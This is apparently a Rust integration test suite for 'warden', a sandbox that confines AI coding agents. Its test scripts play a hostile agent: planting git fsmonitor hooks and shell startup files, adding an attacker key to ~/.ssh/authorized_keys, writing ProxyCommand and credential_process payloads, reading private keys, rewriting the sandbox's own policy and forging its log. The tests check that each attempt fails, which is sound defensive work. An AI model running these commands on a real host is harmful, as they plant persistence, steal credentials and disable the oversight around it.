/// `--allow-broad-workspace`) or `~/.local`. Judged on the host after the session; an
/// ordinary file in the workspace is still written.
#[test]
fn wardens_trust_index_is_locked_in_a_workspace_that_holds_it() {
    let t = T::new("ws-trust-index");
    let local = t.home.join(".local");
    std::fs::create_dir_all(&local).unwrap();
    for (ws, extra) in [
        (&t.home, &["--allow-broad-workspace"][..]),
        (&local, &[][..]),
    ] {
        let o = t
            .warden()
            .arg("run")
            .arg("-q")
            .args(extra)
            .args(["--", "/bin/bash", "-c"])
            .arg(
                "mkdir -p ~/.local/share/warden; echo junk > ~/.local/share/warden/index.db; \
                 echo junk > ~/.local/share/warden/other; echo fine > notes.txt; echo DONE",
            )
            .current_dir(ws)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out(&o).contains("DONE"), "{}: {}", ws.display(), out(&o));
        for f in ["index.db", "other"] {
            let got = std::fs::read(t.home.join(".local/share/warden").join(f)).unwrap_or_default();
            assert!(
                got != b"junk\n",
                "{}: the agent wrote warden's {f}:\n{}",
                ws.display(),
                out(&o)
            );
        }
        assert_eq!(
            std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
            "fine\n"
        );
    }
}

/// Review R1: with the workspace at `$HOME` (`--allow-broad-workspace`), files the host's
/// tools read or run later are locked even when absent: `~/.gitconfig` (a `core.fsmonitor`
/// runs on the host's next `git status`), `~/.config/git/config`, `~/.local/bin/git` (ahead
/// of /usr/bin on PATH), an autostart entry, a systemd user unit, `~/.bash_aliases`,
/// `~/.vimrc`. Judged on the host after the session; an ordinary file is still written.
#[test]
fn persistence_points_hold_when_the_workspace_is_home() {
    let t = T::new("ws-home-persist");
    let planted = [
        ".gitconfig",
        ".config/git/config",
        ".local/bin/git",
        ".config/autostart/x.desktop",
        ".config/systemd/user/x.service",
        ".config/environment.d/x.conf",
        ".bash_aliases",
        ".bash_logout",
        ".xprofile",
        ".vimrc",
        ".tmux.conf",
        ".curlrc",
        ".config/pip/pip.conf",
        ".docker/cli-plugins/docker-x",
        ".local/share/applications/x.desktop",
        ".claude.json",
        // Review round 3 (N3, N4, N5, N10).
        "bin/ls",
        ".cargo/env",
        ".config/user-tmpfiles.d/x.conf",
        ".local/share/systemd/user/x.service",
        ".local/share/dbus-1/services/x.service",
        ".zlogin",
        ".bashrc.d/x.sh",
        ".local/share/jupyter/kernels/x/kernel.json",
        ".gradle/init.d/x.gradle",
        ".gdbinit",
    ];
    let mut script = String::new();
    for p in planted {
        script.push_str(&format!(
            "mkdir -p \"$(dirname ~/{p})\" 2>/dev/null; printf '[core]\\n\\tfsmonitor = id\\n' > ~/{p}; "
        ));
    }
    script.push_str("echo fine > notes.txt; echo DONE");
    let o = t
        .warden()
        .args([
            "run",
            "-q",
            "--allow-broad-workspace",
            "--",
            "/bin/bash",
            "-c",
        ])
        .arg(&script)
        .current_dir(&t.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    for p in planted {
        let got = std::fs::read_to_string(t.home.join(p)).unwrap_or_default();
        assert!(
            !got.contains("fsmonitor"),
            "~/{p} written on the host:\n{}",
            out(&o)
        );
    }
    assert_eq!(
        std::fs::read_to_string(t.home.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// Review F10: a workspace inside warden's state or config directory (directly, or reached
/// through a symlink) is refused before anything runs, with a clear message; a project
/// workspace beside it runs.
#[test]
fn workspace_inside_wardens_own_directories_is_refused() {
    let t = T::new("ws-warden-dirs");
    let state = t.home.join(".local/state/warden");
    let conf = t.home.join(".config/warden/proj");
    std::fs::create_dir_all(&state).unwrap();
    std::fs::create_dir_all(&conf).unwrap();
    let link = t.ws.join("conf-link");
    std::os::unix::fs::symlink(t.home.join(".config/warden"), &link).unwrap();
    for (dir, marker) in [
        (&state, state.join("m")),
        (&conf, conf.join("m")),
        (&link, t.home.join(".config/warden/m")),
    ] {
        for extra in [&[][..], &["--allow-broad-workspace"][..]] {
            let o = t
                .warden()
                .arg("run")
                .args(extra)
                .args(["--", "/bin/sh", "-c", "echo pwned > m"])
                .current_dir(dir)
                .stdin(Stdio::null())
                .output()
                .unwrap();
            assert_eq!(o.status.code(), Some(5), "{}: {}", dir.display(), out(&o));
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(
                err.contains("inside warden's own directory"),
                "{}: {err}",
                dir.display()
            );
            assert!(!marker.exists(), "{} ran the agent", dir.display());
        }
    }
    // Review R8: a bind-mounted alias of `~/.config` (same directory, another path) as the
    // workspace: refused by identity. (In a mount namespace of the test's own.)
    let alias = t.root.join("cfg-alias");
    std::fs::create_dir_all(&alias).unwrap();
    let mut c = Command::new("unshare");
    for v in super::common::SCRUBBED_ENV {
        c.env_remove(v);
    }
    let o = c
        .args(["-m", "--propagation", "private", "/bin/sh", "-c"])
        .arg(format!(
            "mount --bind {} {a} && cd {a} && exec \"$0\" run -- /bin/sh -c 'echo pwned > warden/m'",
            t.home.join(".config").display(),
            a = alias.display()
        ))
        .arg(super::common::WARDEN)
        .env("HOME", &t.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(5), "bind alias: {}", out(&o));
    assert!(
        !t.home.join(".config/warden/m").exists(),
        "the agent wrote warden's config through a bind alias"
    );
    let o = t.sh("echo ok > m");
    ok(&o);
    assert!(t.ws.join("m").exists(), "{}", out(&o));
}

#[test]
fn everyday_development_keeps_working() {
    let t = T::new("dev");
    // Real toolchains live under the real $HOME; name them as readable.
    let real_home = PathBuf::from(std::env::var("HOME").unwrap_or_else(|_| "/root".into()));
    let rustup = std::env::var("RUSTUP_HOME")
        .map(PathBuf::from)
        .unwrap_or(real_home.join(".rustup"));
    let cargo = std::env::var("CARGO_HOME")
        .map(PathBuf::from)
        .unwrap_or(real_home.join(".cargo"));
    let p = t.policy(&format!(
        "[files]\nread = [\"{}\", \"{}\"]\n[env]\nset = {{ RUSTUP_HOME = \"{}\", CARGO_HOME = \"{}\" }}\n",
        rustup.display(),
        cargo.join("bin").display(),
        rustup.display(),
        cargo.display()
    ));
    std::fs::write(
        t.ws.join("hello.c"),
        "#include <stdio.h>\nint main(){puts(\"hello from c\");return 0;}\n",
    )
    .unwrap();
    std::fs::write(
        t.ws.join("hello.rs"),
        "fn main(){println!(\"hello from rust\");}\n",
    )
    .unwrap();
    let path = format!(
        "{}:/usr/local/bin:/usr/bin:/bin",
        cargo.join("bin").display()
    );
    let mut c = t.cmd(&["--policy", &p]);
    c.env("PATH", path).args([
        "--",
        "/bin/bash",
        "-c",
        "set -e; cc hello.c -o hello-c && ./hello-c; rustc -O hello.rs -o hello-rs && ./hello-rs; \
         git init -q && git add hello.c && git -c user.name=a -c user.email=a@b commit -qm c && git log --oneline | wc -l; \
         ls /usr/bin | grep -qx ls && echo USR-OK; echo tmp > \"$TMPDIR/x\" && cat \"$TMPDIR/x\"",
    ]);
    let o = c.output().unwrap();
    let s = ok(&o);
    for want in ["hello from c", "hello from rust", "USR-OK", "tmp"] {
        assert!(s.contains(want), "missing `{want}`:\n{}", out(&o));
    }
}

#[test]
fn bad_input_never_runs_unsandboxed() {
    let t = T::new("badinput");
    let marker = t.ws.join("ran");
    let cmd = format!("touch {}", marker.display());
    // Unknown profile.
    let o = t.sh_with(&["--profile", "nope"], &cmd);
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("unknown profile"),
        "{}",
        out(&o)
    );
    // Malformed TOML with position.
    let p = t.policy("[files\nread = 1\n");
    let o = t.sh_with(&["--policy", &p], &cmd);
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("policy.toml:1:"),
        "{}",
        out(&o)
    );
    // Unknown key.
    let p = t.policy("[files]\nreed = []\n");
    let o = t.sh_with(&["--policy", &p], &cmd);
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    // Missing workspace.
    let o = t.sh_with(&["--workspace", "/nonexistent/warden"], &cmd);
    assert_eq!(o.status.code(), Some(5), "{}", out(&o));
    // A widening workspace policy.
    std::fs::write(t.ws.join(".warden.toml"), "[files]\nread = [\"/srv\"]\n").unwrap();
    let o = t.sh(&cmd);
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("may only narrow"),
        "{}",
        out(&o)
    );
    assert!(!marker.exists(), "the command ran despite bad input");
}

#[test]
fn nested_warden_can_only_narrow() {
    let t = T::new("nested");
    let exe = env!("CARGO_BIN_EXE_warden");
    // The inner warden sees the same binary (under /tmp or target dir, bound read-only? not
    // necessarily visible) — copy it into the workspace.
    std::fs::copy(exe, t.ws.join("warden")).unwrap();
    t.write(".ssh/id_rsa", "TOPSECRET");
    // With and without `--best-effort`: nested in warden, what the outer sandbox holds is
    // enough (without it the run used to plan a view it could not build: "cannot list /").
    for flag in ["--best-effort", ""] {
        let o = t.sh(&format!("./warden run {flag} -- /bin/bash -c 'cat ~/.ssh/id_rsa 2>/dev/null; echo inner-ran; echo x > /etc/nested-evil 2>/dev/null && echo OK-etc'; true"));
        let s = ok(&o);
        assert!(
            s.contains("inner-ran"),
            "the nested warden must run its command (narrowing only):\n{}",
            out(&o)
        );
        assert!(
            !s.contains("TOPSECRET") && !s.contains("OK-etc"),
            "{}",
            out(&o)
        );
        // The warning's lines are lines, not `\x0a`.
        assert!(!out(&o).contains("\\x0a"), "{}", out(&o));
        assert!(!Path::new("/etc/nested-evil").exists());
    }
}

#[test]
fn killing_the_supervisor_ends_the_sandbox_and_placeholders_are_swept() {
    let t = T::new("supkill");
    let marker = t.ws.join("still-running");
    let mut c = t.cmd(&[]);
    c.args([
        "--",
        "/bin/bash",
        "-c",
        "for i in $(seq 100); do sleep 0.1; touch still-running; done",
    ]);
    let mut child = c.spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(600));
    assert!(
        t.ws.join(".mcp.json").exists(),
        "placeholder present during the session"
    );
    assert!(marker.exists(), "the agent ran");
    // SAFETY: killing our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
    child.wait().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    std::fs::remove_file(&marker).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert!(
        !marker.exists(),
        "the agent kept running after the supervisor died"
    );
    // The next run removes the dead session's placeholders.
    ok(&t.sh("true"));
    assert!(
        !t.ws.join(".mcp.json").exists() && !t.ws.join(".claude").exists(),
        "stale placeholders were not swept"
    );
}

/// A supervisor SIGKILLed at any moment of its start, also while it makes the placeholders
/// (before its record of them was written, which left `.claude`, `.vscode`, `.mcp.json`,
/// `.warden.toml` in the tree for good), leaves nothing a later session does not sweep; the
/// user's own empty file at a protected path stays. Judged on the host after a clean run.
#[test]
fn a_supervisor_killed_while_it_makes_placeholders_leaves_none_behind() {
    let t = T::new("phkill");
    std::fs::write(t.ws.join("README"), "mine\n").unwrap();
    std::fs::write(t.ws.join(".envrc"), "").unwrap();
    let names = || -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(&t.ws)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    // Killed the moment the first name appears in the workspace (inotify): in the middle of
    // making them. Then at every 0.5 ms of the start.
    // SAFETY: a fresh inotify fd, watched on a NUL-terminated path, closed at the end.
    let ino = unsafe { libc::inotify_init1(libc::IN_CLOEXEC | libc::IN_NONBLOCK) };
    assert!(ino >= 0);
    let ws = std::ffi::CString::new(t.ws.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: as above.
    assert!(unsafe { libc::inotify_add_watch(ino, ws.as_ptr(), libc::IN_CREATE) } >= 0);
    let mut leftovers = 0;
    for i in 0..45u64 {
        let mut buf = [0u8; 4096];
        // SAFETY: draining our own inotify fd into a buffer of its length.
        while unsafe { libc::read(ino, buf.as_mut_ptr().cast(), buf.len()) } > 0 {}
        let mut c = t.cmd(&[]);
        c.args(["--", "sleep", "5"])
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let mut child = c.spawn().unwrap();
        if i < 5 {
            let mut p = libc::pollfd {
                fd: ino,
                events: libc::POLLIN,
                revents: 0,
            };
            // SAFETY: poll on one pollfd of ours.
            unsafe { libc::poll(&mut p, 1, 5000) };
        } else {
            std::thread::sleep(std::time::Duration::from_micros(500 * (i - 5)));
        }
        // SAFETY: killing our own child.
        unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
        child.wait().unwrap();
        if names().len() > 2 {
            leftovers += 1;
        }
    }
    // SAFETY: our own fd.
    unsafe { libc::close(ino) };
    // Some kills landed after the placeholders were made (the test exercises the sweep).
    assert!(leftovers > 0, "no kill left a placeholder: {:?}", names());
    ok(&t.sh("true"));
    assert_eq!(names(), vec![".envrc", "README"], "left in the user's tree");
    assert_eq!(
        std::fs::read_to_string(t.ws.join("README")).unwrap(),
        "mine\n"
    );
}

/// Two sessions on one workspace: the first makes the placeholders (`.envrc`, `.mcp.json`),
/// the second finds and locks them, the first ends. Its placeholders must stay while the
/// second runs: removing a mount point of another namespace detaches that mount, and the
/// second agent then wrote `.envrc` on the host (direnv runs it). Judged on the host after
/// both sessions: no `.envrc` content, no placeholder left behind; the second agent's
/// ordinary write landed.
#[test]
fn a_session_ending_keeps_the_placeholders_another_session_locks() {
    let t = T::new("ph-shared");
    let mut first = t.cmd(&["--", "/bin/sleep", "1"]).spawn().unwrap();
    for _ in 0..100 {
        if t.ws.join(".envrc").exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(
        t.ws.join(".envrc").exists(),
        "the first session made no placeholder"
    );
    let second = t
        .cmd(&[
            "--",
            "/bin/bash",
            "-c",
            "while [ ! -e first-gone ]; do sleep 0.05; done; \
             echo 'touch /tmp/pwned' >> .envrc; echo '{\"mcpServers\":{}}' > .mcp.json; \
             echo fine > notes.txt; echo DONE",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(first.wait().unwrap().success(), "the first session failed");
    std::fs::write(t.ws.join("first-gone"), "").unwrap();
    let o = second.wait_with_output().unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    for p in [".envrc", ".mcp.json"] {
        let left = std::fs::read_to_string(t.ws.join(p)).ok();
        assert!(
            left.is_none(),
            "{p} on the host after both sessions: {left:?}\n{}",
            out(&o)
        );
    }
    assert_eq!(
        std::fs::read_to_string(t.ws.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// The same with the workspace at `$HOME`: the first session's placeholder for the absent,
/// denied `~/.ssh` is an existing path for the second, which hides it (a tmpfs over it)
/// instead of locking it. The first session ending must not remove it while that mount
/// stands. Judged on the host after both: no `~/.ssh`.
#[test]
fn a_session_ending_keeps_a_denied_placeholder_another_session_hides() {
    let t = T::new("ph-shared-home");
    let run = |script: &str| {
        let mut c = t.warden();
        c.env("HOME", &t.home)
            .args([
                "run",
                "-q",
                "--allow-broad-workspace",
                "--",
                "/bin/bash",
                "-c",
            ])
            .arg(script)
            .current_dir(&t.home)
            .stdin(Stdio::null());
        c
    };
    let mut first = run("sleep 1").spawn().unwrap();
    for _ in 0..100 {
        if t.home.join(".ssh").exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(t.home.join(".ssh").exists(), "no placeholder for ~/.ssh");
    let second = run("while [ ! -e first-gone ]; do sleep 0.05; done; \
         mkdir -p ~/.ssh; echo ssh-ed25519 AAAA attacker >> ~/.ssh/authorized_keys; \
         echo fine > notes.txt; echo DONE")
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(first.wait().unwrap().success(), "the first session failed");
    std::fs::write(t.home.join("first-gone"), "").unwrap();
    let o = second.wait_with_output().unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    assert!(
        std::fs::symlink_metadata(t.home.join(".ssh")).is_err(),
        "~/.ssh on the host after both sessions: {:?}\n{}",
        std::fs::read_to_string(t.home.join(".ssh/authorized_keys")),
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// `warden hook`, run by the agent inside `warden run` (as Claude Code runs its hooks), is
/// reachable at its own path, and its decisions land in the run's session log (outside the
/// sandbox) through the inherited pipe; junk written to the pipe is dropped, not logged.
#[test]
fn hook_decisions_inside_the_sandbox_reach_the_session_log() {
    let t = T::new("hooklog");
    let w = env!("CARGO_BIN_EXE_warden");
    t.write("proj/hp.toml", "[exec]\ndeny = [\"curl\"]\n");
    let payload = format!(
        r#"{{"session_id":"s1","cwd":"{}","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{{"command":"curl http://x"}},"tool_use_id":"toolu_9"}}"#,
        t.ws.display()
    );
    t.write("proj/payload.json", &payload);
    // The run's policy reaches the hook inside (a --policy given to the hook itself there
    // is ignored: it could name an agent-written file).
    let hp = t.ws.join("hp.toml").display().to_string();
    let o = t.sh_with(&["--policy", &hp], &format!("{w} hook claude < payload.json > out.json; echo hook-rc=$?; echo '{{\"layer\":\"exec\",\"forged\":1}}' >&$WARDEN_HOOK_FD"));
    let s = ok(&o);
    assert!(s.contains("hook-rc=2"), "{s}");
    let logs = t.home.join(".local/state/warden/sessions");
    let text: String = std::fs::read_dir(&logs)
        .unwrap()
        .flatten()
        .map(|e| std::fs::read_to_string(e.path()).unwrap_or_default())
        .collect();
    let line = text
        .lines()
        .find(|l| l.contains("\"layer\":\"gate\""))
        .unwrap_or_else(|| panic!("no gate decision in the session log:\n{text}"));
    assert!(
        line.contains("exec.deny:curl") && line.contains("inside the sandbox"),
        "{line}"
    );
    // (The command line, which quotes the junk, is in the session-start event.)
    assert!(
        !text.contains("\"forged\":1"),
        "junk from the pipe was logged:\n{text}"
    );
}

/// The git guard waits for `git init`'s config writes to settle, but an agent that keeps
/// touching `.git/config` cannot keep it unlocked: it is locked within about two seconds.
#[test]
fn git_config_touched_forever_is_still_locked() {
    let t = T::new("gittouch");
    let o = t.sh("git init -q . && for i in $(seq 60); do echo \"# $i\" >> .git/config 2>/dev/null || { echo locked-at-$i; break; }; sleep 0.1; done");
    let s = ok(&o);
    let at: u32 = s
        .split("locked-at-")
        .nth(1)
        .and_then(|x| x.trim().parse().ok())
        .unwrap_or_else(|| panic!("never locked:\n{}", out(&o)));
    assert!(at <= 35, "locked only after {at} touches:\n{}", out(&o));
}

/// With the workspace at `$HOME`, a denied path that does not exist yet (`~/.ssh`, `~/.aws`,
/// `~/.netrc`) cannot be created: hiding covers existing paths only, so before, the agent
/// could plant `~/.ssh/authorized_keys` or a `ProxyCommand` in `~/.ssh/config` for the
/// host's next `ssh`. Judged on the host after the session: none of them exists (the
/// placeholders are gone too), and an ordinary file is still written.
#[test]
fn absent_denied_paths_stay_absent_when_the_workspace_is_home() {
    let t = T::new("ws-home-deny");
    let o = t
        .warden()
        .env("HOME", &t.home)
        .args([
            "run",
            "-q",
            "--allow-broad-workspace",
            "--",
            "/bin/bash",
            "-c",
        ])
        .arg(
            "mkdir -p ~/.ssh; echo ssh-ed25519 AAAA attacker >> ~/.ssh/authorized_keys; \
             printf 'Host *\\n ProxyCommand touch /tmp/pwned\\n' > ~/.ssh/config; \
             mkdir -p ~/.aws && printf '[default]\\ncredential_process = sh -c id\\n' > ~/.aws/config; \
             echo 'machine example.com login x password y' > ~/.netrc; \
             mv ~/.ssh ~/.ssh-old 2>/dev/null && mkdir ~/.ssh && echo k > ~/.ssh/authorized_keys; \
             echo fine > notes.txt; echo DONE",
        )
        .current_dir(&t.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    for p in [".ssh", ".aws", ".netrc", ".ssh-old"] {
        assert!(
            std::fs::symlink_metadata(t.home.join(p)).is_err(),
            "{p} exists on the host after the session:\n{}",
            out(&o)
        );
    }
    assert_eq!(
        std::fs::read_to_string(t.home.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// With the workspace at `$HOME`, an existing denied path (`~/.docker/config.json`) is hidden
/// by a mount; its container must not be renamable, or the agent moves `~/.docker` away (the
/// mount goes along) and writes a fresh `config.json` whose `credsStore` names a program the
/// host's next `docker login` runs.
/// A path both denied and protected that exists (`~/.config/warden`) must not stop the
/// session. Judged on the host: the real directory keeps its only file, nothing renamed.
#[test]
fn hidden_paths_in_a_home_workspace_keep_their_containers() {
    let t = T::new("ws-home-hide");
    t.write(".docker/config.json", "{\"auths\":{\"x\":\"SECRET\"}}\n");
    t.write(".config/warden/policy.toml", "# mine\n");
    let o = t
        .warden()
        .env("HOME", &t.home)
        .args([
            "run",
            "-q",
            "--allow-broad-workspace",
            "--",
            "/bin/bash",
            "-c",
        ])
        .arg(
            "cat ~/.docker/config.json; mv ~/.docker ~/.docker-old; mkdir -p ~/.docker && \
             echo '{\"credsStore\":\"evil\"}' > ~/.docker/config.json; \
             echo fine > notes.txt; echo DONE",
        )
        .current_dir(&t.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    assert!(
        !ok(&o).contains("SECRET"),
        "the secret was read:\n{}",
        out(&o)
    );
    assert!(
        !t.home.join(".docker-old").exists(),
        "the container was renamed and rebuilt on the host:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join(".docker/config.json")).unwrap(),
        "{\"auths\":{\"x\":\"SECRET\"}}\n"
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join(".config/warden/policy.toml")).unwrap(),
        "# mine\n"
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// `$HOME` a symlink to the real home (`/home -> /var/home` on Fedora Silverblue): the
/// home directory is one tree whatever path names it. Before, the broad-workspace check
/// compared the real workspace with the link and let `cd ~ && warden run` start without
/// the flag, and every `~/...` protected entry named the link, so with the flag the agent
/// wrote `~/.bashrc` and warden's own state on the host. Judged on the host.
#[test]
fn a_symlinked_home_is_the_same_home() {
    let t = T::new("home-link");
    let real = t.root.join("realhome");
    std::fs::create_dir_all(real.join(".local/state")).unwrap();
    std::fs::write(real.join(".bashrc"), "# rc\n").unwrap();
    let link = t.root.join("home-link");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let run = |flag: bool| {
        let mut c = t.warden();
        c.env("HOME", &link).arg("run").arg("-q");
        if flag {
            c.arg("--allow-broad-workspace");
        }
        c.args(["--", "/bin/bash", "-c"])
            .arg(format!(
                "echo 'touch /tmp/pwned' >> {r}/.bashrc; echo x >> .profile; \
                 mkdir -p {r}/.local/state/warden && echo junk > {r}/.local/state/warden/hash-cache.bin; \
                 echo fine > notes.txt; echo DONE",
                r = real.display()
            ))
            .current_dir(&link)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let o = run(false);
    assert!(
        !o.status.success(),
        "started without the flag:\n{}",
        out(&o)
    );
    assert!(out(&o).contains("contains your home"), "{}", out(&o));
    let o = run(true);
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(real.join(".bashrc")).unwrap(),
        "# rc\n",
        "{}",
        out(&o)
    );
    assert!(!real.join(".profile").exists(), "{}", out(&o));
    let cache = std::fs::read(real.join(".local/state/warden/hash-cache.bin")).unwrap_or_default();
    assert!(
        cache != b"junk\n",
        "the agent wrote warden's hash cache:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(real.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// A team policy kept in the repository (`--policy ci/warden.toml`, `--profile
/// ci/profile.toml` extending `ci/base.toml`): the files that decide the next session are
/// locked read-only, so the agent cannot turn the exec guard to audit mode or widen the
/// network for the next run. Judged on the host: each file keeps its content; an ordinary
/// write lands.
#[test]
fn policy_files_in_the_workspace_are_locked() {
    let t = T::new("policy-in-ws");
    let ci = t.ws.join("ci");
    std::fs::create_dir_all(&ci).unwrap();
    let files = [
        ("warden.toml", "[network]\nallow = []\n"),
        ("base.toml", "extends = \"generic\"\n"),
        ("profile.toml", "extends = \"base.toml\"\n"),
    ];
    for (n, text) in files {
        std::fs::write(ci.join(n), text).unwrap();
    }
    let o = t.sh_with(
        &["--policy", "ci/warden.toml", "--profile", "ci/profile.toml"],
        "for f in ci/warden.toml ci/base.toml ci/profile.toml; do \
           printf '[exec]\\naction = \"audit\"\\n' > $f; done; \
         mv ci ci-old; echo fine > notes.txt; echo DONE",
    );
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    for (n, text) in files {
        assert_eq!(
            std::fs::read_to_string(ci.join(n)).unwrap(),
            text,
            "{n} rewritten on the host:\n{}",
            out(&o)
        );
    }
    assert!(!t.ws.join("ci-old").exists(), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(t.ws.join("notes.txt")).unwrap(),
        "fine\n"
    );
    // A policy named through a symlink in the workspace: the link cannot be locked (the
    // agent would swap it), so the session is refused with the target to use instead.
    let outside = t.root.join("team-policy.toml");
    std::fs::write(&outside, "[network]\nallow = []\n").unwrap();
    std::os::unix::fs::symlink(&outside, ci.join("link.toml")).unwrap();
    let o = t.sh_with(&["--policy", "ci/link.toml"], "echo RAN");
    assert!(!out(&o).contains("RAN"), "{}", out(&o));
    assert!(
        out(&o).contains("is a symlink inside the workspace"),
        "{}",
        out(&o)
    );
    let o = t.sh_with(&["--policy", outside.to_str().unwrap()], "echo RAN");
    assert!(out(&o).contains("RAN"), "{}", out(&o));
}

/// Review R7: with the workspace at `$HOME`, `~/.codex` is protected (read-only) and holds
/// a hidden `auth.json`, whose container is pinned. The pin (a writable bind of `~/.codex`
/// onto itself) came first and the read-only lock was skipped as "already mounted", so the
/// agent wrote `~/.codex/config.toml` (MCP servers the host's codex starts). Judged on the
/// host: config.toml unchanged, the secret unread.
#[test]
fn a_pinned_container_that_is_protected_stays_read_only() {
    let t = T::new("pin-protect");
    t.write(".codex/auth.json", "SECRET\n");
    t.write(".codex/config.toml", "model = \"x\"\n");
    let o = t
        .warden()
        .env("HOME", &t.home)
        .args(["run", "-q", "--allow-broad-workspace", "--", "/bin/bash", "-c"])
        .arg(
            "cat ~/.codex/auth.json; printf '[mcp_servers.x]\\ncommand = \"sh\"\\n' >> ~/.codex/config.toml; \
             echo fine > notes.txt; echo DONE",
        )
        .current_dir(&t.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    assert!(!ok(&o).contains("SECRET"), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(t.home.join(".codex/config.toml")).unwrap(),
        "model = \"x\"\n",
        "{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// A workspace that is itself one of the trees warden otherwise replaces with a private
/// tmpfs (`$HOME` with `--allow-broad-workspace`; `/tmp` or `/var/tmp` the same way): the
/// protected paths under it are locked like in any workspace. Before, that root was left
/// out of the placeholder roots, so `.bashrc`, `.envrc` and `~/.config/warden/policy.toml`
/// (the next session's policy) were written on the host. Judged on the host after the
/// session; an ordinary file is still written.
#[test]
fn protected_paths_hold_when_the_workspace_is_home() {
    let t = T::new("ws-is-home");
    let o = t
        .warden()
        .env("HOME", &t.home)
        .args([
            "run",
            "-q",
            "--allow-broad-workspace",
            "--",
            "/bin/bash",
            "-c",
        ])
        .arg(
            "echo x >> .bashrc; echo y >> .envrc; mkdir -p ~/.config/warden; \
             printf '[files]\\nwrite = [\"/etc/cron.d\"]\\n' > ~/.config/warden/policy.toml; \
             echo junk > ~/.local/state/warden/hash-cache.bin; echo fine > notes.txt; echo DONE",
        )
        .current_dir(&t.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out(&o).contains("DONE"), "{}", out(&o));
    for p in [".bashrc", ".envrc", ".config/warden/policy.toml"] {
        assert!(
            !t.home.join(p).exists(),
            "{p} written on the host:\n{}",
            out(&o)
        );
    }
    // warden's own state (the hash cache vouches for executables) is not the agent's.
    let cache =
        std::fs::read(t.home.join(".local/state/warden/hash-cache.bin")).unwrap_or_default();
    assert!(
        cache != b"junk\n",
        "the agent wrote warden's hash cache:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join("notes.txt")).unwrap(),
        "fine\n"
    );
}
